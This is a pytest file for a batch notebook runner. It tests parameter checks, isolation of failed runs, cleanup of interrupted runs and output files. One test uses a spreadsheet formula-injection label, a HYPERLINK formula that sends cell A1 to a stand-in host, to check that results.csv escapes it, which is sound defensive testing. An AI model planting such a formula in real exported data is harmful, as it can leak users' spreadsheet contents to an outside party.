"""Batch runs: parameter checks, failure isolation, atomic run folders, outputs.

The fixture notebooks in ``tests/fixtures/notebooks`` take about a second
each; ``quick`` raises for ``segment="broken"`` and writes one estimate whose
p-value is a fixed function of ``segment`` and ``period``.
"""

from __future__ import annotations

import csv
import json
import os
import signal
import subprocess
import sys
import time
from pathlib import Path

import nbformat
import pandas as pd
import pytest

import cxkit.cache
from cxkit.batch import RunFailure, clean_stale_runs, find_stale_runs, run_batch
from cxkit.cli import main
from cxkit.data import SupportData
from cxkit.exceptions import ParameterError
from cxkit.report import write_results

NB = Path(__file__).parent / "fixtures" / "notebooks"


def _config(root, notebook="quick", **extra):
    return {"notebooks": [str(NB / f"{notebook}.ipynb")], "output_root": str(root),
            "jobs": 2, "cache": False, **extra}


@pytest.fixture(scope="module")
def mixed_batch(tmp_path_factory):
    """One batch of 4 runs, 1 of which (segment="broken") fails."""
    root = tmp_path_factory.mktemp("reports")
    cfg = _config(root, grid={"segment": ["all", "SMB", "Enterprise", "broken"],
                              "period": ["Q"]})
    return run_batch(cfg, progress="off")


# -- parameters are checked before anything runs ---------------------------------------

def test_unknown_grid_parameter_is_refused_before_any_run(tmp_path, capsys):
    root = tmp_path / "reports"
    with pytest.raises(ParameterError, match=r"'colour'.*declared by none"):
        run_batch(_config(root, grid={"colour": ["red"]}), progress="off")
    assert not root.exists()
    # the command line says the same and exits with 2
    cfg_file = tmp_path / "rc.yaml"
    cfg_file.write_text(json.dumps(_config(root, grid={"colour": ["red"]})))
    assert main(["run", str(cfg_file)]) == 2
    assert "colour" in capsys.readouterr().err
    assert not root.exists()


def test_wrong_type_and_undeclared_override_are_refused(tmp_path):
    root = tmp_path / "reports"
    cfg = _config(root, parameters={"quick": {"horizon": "abc", "lag": 2}})
    with pytest.raises(ParameterError) as info:
        run_batch(cfg, progress="off")
    msg = str(info.value)
    assert "quick.ipynb: parameter 'horizon' = 'abc' is str, declared int" in msg
    assert "parameter 'lag' (value 2) is not declared" in msg
    assert "segment: str" in msg and "alpha: float" in msg  # the declared ones are listed
    assert not root.exists()


def test_yaml_boolean_for_a_string_parameter_is_refused(tmp_path):
    cfg = _config(tmp_path / "r", grid={"segment": [False]})  # YAML reads `NO` as False
    with pytest.raises(ParameterError, match="quote it"):
        run_batch(cfg, progress="off")


# -- a failing run does not stop the others ----------------------------------------------

def test_failed_run_is_isolated_and_reported(mixed_batch):
    res = mixed_batch
    assert res.status == "failed" and len(res.runs) == 4
    ok = [r for r in res.runs if r.status == "ok"]
    assert len(ok) == 3 and all(r.label_parameters["segment"] != "broken" for r in ok)
    assert len(res.failed) == 1
    err = res.failed[0].error
    assert isinstance(err, RunFailure) and err.ename == "ValueError"
    assert "broken on purpose" in err.evalue
    assert err.cell_index == 3  # markdown, parameters, injected parameters, then this
    assert err.exec_count == 3 and res.failed[0].to_dict()["error"] == {
        "ename": "ValueError", "evalue": err.evalue, "cell_index": 3, "exec_count": 3}
    summary = res.summary()
    assert "FAILED quick segment=broken period=Q: cell 3" in summary
    assert "ValueError: segment 'broken' is broken on purpose" in summary
    # the executed notebook is kept, with the error in it
    nb = nbformat.read(res.run_dir / res.failed[0].notebook_path, as_version=4)
    errors = [o for c in nb.cells if c.cell_type == "code" for o in c.get("outputs", [])
              if o.get("output_type") == "error"]
    assert errors and errors[0]["ename"] == "ValueError"
    # a batch with failures is complete but does not move `latest`
    assert res.run_dir.is_dir() and not res.run_dir.name.startswith(".tmp-")
    assert not (res.run_dir.parent / "latest").exists()


def test_cli_exit_status_is_one_when_a_run_fails(tmp_path, capsys):
    cfg_file = tmp_path / "rc.yaml"
    label = '=HYPERLINK("http://x.example/?"&A1,"open")'
    cfg_file.write_text(json.dumps(_config(tmp_path / "r", grid={"segment": ["broken", label]})))
    assert main(["run", str(cfg_file)]) == 1
    assert "FAILED quick segment=broken" in capsys.readouterr().err
    # a label that a spreadsheet would run as a formula is escaped in results.csv;
    # the negative estimate stays a number
    with open(next((tmp_path / "r").glob("*/results.csv")), newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert len(rows) == 1 and rows[0]["segment"] == "'" + label
    assert float(rows[0]["estimate"]) == -0.1 and rows[0]["conf_low"] == "-0.2"


# -- outputs ---------------------------------------------------------------------------

def test_results_csv_bh_equals_direct_multipletests(mixed_batch):
    from statsmodels.stats.multitest import multipletests

    table = pd.read_csv(mixed_batch.run_dir / "results.csv")
    assert list(table.columns) == ["run", "notebook", "segment", "period", "model",
                                   "outcome", "term", "estimate", "conf_low", "conf_high",
                                   "p_value", "p_value_bh", "n_obs", "effect", "evidence",
                                   "e_value", "e_value_ci", "robustness_value",
                                   "robustness_value_ci", "sensitivity"]
    assert len(table) == 3 and table["p_value"].nunique() == 3
    p_raw = []
    for run in mixed_batch.runs:
        if run.status == "ok":
            rows = json.loads((mixed_batch.run_dir / run.results).read_text())["results"]
            p_raw.append((run.run, rows[0]["p_value"]))
    expected = dict(zip([r for r, _ in p_raw],
                        multipletests([p for _, p in p_raw], method="fdr_bh")[1], strict=True))
    got = dict(zip(table["run"], table["p_value_bh"], strict=True))
    assert got == pytest.approx(expected)
    assert (table["p_value_bh"] >= table["p_value"]).all()


def test_the_batch_stamps_notebook_and_every_parameter_into_results_json(mixed_batch):
    # quick.ipynb calls write_results(rows, output_dir=output_dir): no parameters typed
    run = next(r for r in mixed_batch.runs if r.label_parameters["segment"] == "SMB")
    payload = json.loads((mixed_batch.run_dir / run.results).read_text())
    assert payload["notebook"] == "quick"
    assert payload["parameters"] == {"segment": "SMB", "period": "Q", "horizon": 1,
                                     "alpha": 0.05}  # declared defaults included
    assert payload["results"][0]["notebook"] == "quick"


def test_html_has_no_code_cells(mixed_batch):
    from nbconvert import HTMLExporter

    run = next(r for r in mixed_batch.runs if r.status == "ok")
    page = (mixed_batch.run_dir / run.html).read_text()
    assert "visible output" in page  # outputs are kept
    for token in ("crc32", "FIXTURE_CODE_TOKEN", "hl-ipython3", "class=\"jp-InputPrompt"):
        assert token not in page
    # the same notebook rendered with code does contain them: the check can fail
    with_code, _ = HTMLExporter().from_filename(str(mixed_batch.run_dir / run.notebook_path))
    assert "crc32" in with_code and "hl-ipython3" in with_code


def test_manifest_and_index(mixed_batch):
    manifest = json.loads((mixed_batch.run_dir / "manifest.json").read_text())
    assert manifest["run_id"] == mixed_batch.run_id == mixed_batch.run_dir.name
    assert manifest["status"] == "failed" and manifest["latest_moves"] is False
    assert {"cxkit", "pandas", "numpy", "statsmodels", "duckdb", "papermill"} <= set(
        k for k, v in manifest["versions"].items() if v)
    assert {"started_at", "finished_at", "run_config", "data_fingerprint"} <= set(manifest)
    for run in manifest["runs"]:
        assert run["duration_seconds"] > 0 and run["status"] in ("ok", "failed")
        assert run["parameters"]["segment"] in ("all", "SMB", "Enterprise", "broken")
    index = (mixed_batch.run_dir / "index.html").read_text()
    for run in manifest["runs"]:
        assert run["notebook_path"] in index
    assert index.count("broken on purpose") == 1 and "csat_mean" in index


# -- atomic run folders ----------------------------------------------------------------

# A batch in a subprocess, its source data faked (read once into the batch cache).
FAKE_DATA_BATCH = """
import signal
import sys
import pandas as pd
# Ctrl-C as in a terminal: a child of a non-interactive shell's background job starts
# with SIGINT ignored, and Python then installs no KeyboardInterrupt handler.
signal.signal(signal.SIGINT, signal.default_int_handler)
import cxkit.cache
from cxkit.data import SupportData
fake = SupportData(customers=pd.DataFrame({"customer_id": ["c1", "c2"]}))
cxkit.cache._read_support_data = lambda config: fake
from cxkit.cli import main
sys.exit(main(["run", sys.argv[1]]))
"""


def _process_table() -> dict[int, tuple[int, str]]:
    """pid -> (parent pid, state) of every process, from /proc."""
    table = {}
    for stat in Path("/proc").glob("[0-9]*/stat"):
        try:
            fields = stat.read_text().rsplit(")", 1)[1].split()
        except OSError:  # ended meanwhile
            continue
        table[int(stat.parent.name)] = (int(fields[1]), fields[0])
    return table


def _descendants(pid: int) -> set[int]:
    table, found, todo = _process_table(), set(), [pid]
    while todo:
        parent = todo.pop()
        children = [p for p, (ppid, _) in table.items() if ppid == parent]
        found.update(children)
        todo += children
    return found


def _alive(pids: set[int]) -> set[int]:
    table = _process_table()
    return {p for p in pids if p in table and table[p][1] != "Z"}  # zombies have ended


@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="reads /proc")
@pytest.mark.parametrize("sig", [signal.SIGKILL, signal.SIGTERM, signal.SIGINT],
                         ids=["SIGKILL", "SIGTERM", "SIGINT"])
def test_killed_batch_leaves_no_process_no_cached_data_and_latest_untouched(tmp_path, sig):
    root = tmp_path / "reports"
    first = "20260101T060000Z-0a1b2c"  # last week's report
    (root / first).mkdir(parents=True)
    os.symlink(first, root / "latest")
    cfg_file = tmp_path / "slow.yaml"
    cfg_file.write_text(json.dumps(_config(root, "slow", cache=True,
                                           grid={"seconds": [60.0, 61.0]})))
    proc = subprocess.Popen([sys.executable, "-c", FAKE_DATA_BATCH, str(cfg_file)],
                            start_new_session=True, stdout=subprocess.DEVNULL,
                            stderr=subprocess.PIPE)
    try:
        deadline = time.monotonic() + 60
        kernels = set()
        while len(kernels) < 2:  # both kernels are running
            assert time.monotonic() < deadline and proc.poll() is None, proc.stderr.read()
            time.sleep(0.2)
            kernels = {p for p in _descendants(proc.pid)
                       if b"ipykernel" in Path(f"/proc/{p}/cmdline").read_bytes()}
        family = _descendants(proc.pid)  # workers and kernels
        cache = next(root.glob(".tmp-*/_cache"))
        assert cache.stat().st_mode & 0o777 == 0o700  # private to the user
        assert [f.stat().st_mode & 0o777 for f in cache.iterdir()] == [0o600]
        os.kill(proc.pid, sig)  # the batch's own process only, as cron or Airflow would
        status = proc.wait(timeout=30)
    finally:
        if proc.poll() is None:
            os.killpg(proc.pid, signal.SIGKILL)
    deadline = time.monotonic() + 10
    while _alive(family) and time.monotonic() < deadline:
        time.sleep(0.1)
    assert not _alive(family), "workers or kernels outlived their batch"
    assert os.readlink(root / "latest") == first
    leftovers = sorted(p.name for p in root.glob(".tmp-*"))
    if sig == signal.SIGTERM:
        assert status == 128 + signal.SIGTERM and leftovers == []
        assert "stopped by SIGTERM" in proc.stderr.read().decode()
    elif sig == signal.SIGINT:  # Ctrl-C
        assert status == 130 and leftovers == []
    else:  # nothing could run at SIGKILL: the folder stays until the next batch
        assert len(leftovers) == 1 and find_stale_runs(root) == [root / leftovers[0]]
    second = run_batch(_config(root), progress="off")
    assert not list(root.glob("**/_cache")) and not list(root.glob("**/*.pkl"))
    assert os.readlink(root / "latest") == second.run_id and (root / first).is_dir()
    if leftovers:  # reported, then removable
        assert second.stale == (root / leftovers[0],) and "interrupted batch" in second.summary()
        assert clean_stale_runs(root) == [root / leftovers[0]]
        assert not (root / leftovers[0]).exists()


# -- the shared cache ------------------------------------------------------------------

def test_kernels_use_the_batch_cache(tmp_path, monkeypatch):
    fake = SupportData(customers=pd.DataFrame({"customer_id": [f"c{i}" for i in range(7)]}))
    built = []

    def fake_panel(data, *, period, horizon):
        built.append((period, horizon))
        return pd.DataFrame({"marker": [f"panel-{period}-{horizon}"]})

    monkeypatch.setattr(cxkit.cache, "_read_support_data", lambda config: fake)
    monkeypatch.setattr(cxkit.cache, "_build_panel", fake_panel)
    cfg = _config(tmp_path / "r", "cached", cache=True, grid={"period": ["M", "Q"]})
    res = run_batch(cfg, progress="off")
    assert res.status == "ok", res.summary()
    assert sorted(built) == [("M", 1), ("Q", 1)]  # each panel built once, in this process
    table = pd.read_csv(res.run_dir / "results.csv")
    assert sorted(table["term"]) == ["panel-M-1", "panel-Q-1"]  # served to the kernels
    assert (table["estimate"] == 7).all()
    manifest = json.loads((res.run_dir / "manifest.json").read_text())
    assert manifest["data_fingerprint"] == fake.fingerprint
    assert not (res.run_dir / "_cache").exists()


def test_kernels_find_cached_panels_without_rehashing_the_data(tmp_path, monkeypatch):
    fake = SupportData(customers=pd.DataFrame({"customer_id": ["c1", "c2"]}))
    monkeypatch.setattr(cxkit.cache, "_read_support_data", lambda config: fake)
    monkeypatch.setattr(cxkit.cache, "_build_panel",
                        lambda data, *, period, horizon: pd.DataFrame({"marker": [period]}))
    fingerprints = cxkit.cache.prepare_cache(["sample"], panels=[("sample", "Q", 1)],
                                             cache_dir=tmp_path / "cache")
    assert fingerprints == {"sample": fake.fingerprint}
    assert (tmp_path / "cache").stat().st_mode & 0o777 == 0o700

    def no_hashing(frames):
        raise AssertionError("the data were hashed again")

    # what a kernel does: load the data, find its panel, record the fingerprint
    monkeypatch.setattr("cxkit.data.fingerprint_frames", no_hashing)
    monkeypatch.setenv(cxkit.cache.CACHE_ENV, str(tmp_path / "cache"))
    data = cxkit.cache.load_data("sample")
    assert data is not fake and data.fingerprint == fake.fingerprint
    assert cxkit.cache.load_panel(data, period="Q", horizon=1)["marker"].tolist() == ["Q"]
    path = write_results([{"model": "m", "outcome": "o", "term": "t", "estimate": 1.0}],
                         output_dir=tmp_path, data=data)
    assert json.loads(path.read_text())["data_fingerprint"] == fake.fingerprint


def test_load_data_computes_without_a_cache(monkeypatch):
    monkeypatch.delenv(cxkit.cache.CACHE_ENV, raising=False)
    calls = []
    monkeypatch.setattr(cxkit.cache, "_read_support_data",
                        lambda config: calls.append(config) or "data")
    assert cxkit.cache.load_data("sample") == "data" and calls == ["sample"]


def test_write_results_refuses_rows_without_an_estimate(tmp_path):
    with pytest.raises(ParameterError, match=r"lack column\(s\) \['estimate'\]"):
        write_results([{"model": "m", "outcome": "o", "term": "t"}], parameters={},
                      output_dir=tmp_path)
    path = write_results([{"model": "m", "outcome": "o", "term": "t", "estimate": 1.5,
                           "p_value": float("nan")}], parameters={"a": 1}, output_dir=tmp_path)
    rows = json.loads(path.read_text())["results"]
    assert rows[0]["estimate"] == 1.5 and rows[0]["p_value"] is None


def test_failure_while_preparing_shared_data_runs_nothing(tmp_path, monkeypatch):
    from cxkit.exceptions import BatchError

    def broken(config):
        raise KeyError("tickets")

    monkeypatch.setattr(cxkit.cache, "_read_support_data", broken)
    root = tmp_path / "r"
    with pytest.raises(BatchError, match=r"KeyError: 'tickets'; no notebook was run"):
        run_batch(_config(root, "cached", cache=True), progress="off")
    assert list(root.iterdir()) == []  # not even a .tmp-* folder
